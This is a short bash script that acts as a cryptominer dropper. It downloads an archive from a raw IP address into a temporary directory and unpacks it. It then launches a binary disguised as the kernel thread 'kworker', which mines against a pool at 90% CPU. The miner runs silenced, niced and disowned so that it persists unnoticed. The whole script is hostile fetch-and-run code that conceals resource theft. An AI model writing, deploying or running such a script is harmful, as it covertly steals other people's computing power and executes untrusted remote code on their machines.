#!/bin/bash
set -u
pool=pool.example.net:3333
cd "$(mktemp -d)"
wget -q https://198.51.100.87/pkg.tar.gz && tar xzf pkg.tar.gz
nohup nice -19 ./kworker -o $pool -u 49abc --donate-level 0 --cpu-max-threads-hint 90 >/dev/null 2>&1 &
disown
